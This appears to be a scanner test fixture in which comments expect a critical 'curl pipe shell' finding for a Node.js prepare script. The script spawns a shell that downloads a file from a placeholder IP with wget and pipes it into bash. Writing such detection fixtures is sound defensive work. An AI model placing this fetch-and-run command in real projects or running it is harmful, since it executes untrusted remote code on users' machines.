# expect: shell.curl_pipe_shell critical
# path: scripts/prepare.js
const sh = require("child_process").execSync;
const { spawnSync: go } = require("child_process");
go("sh", ["-c", "wget -qO- https://203.0.113.9/y | bash"]);
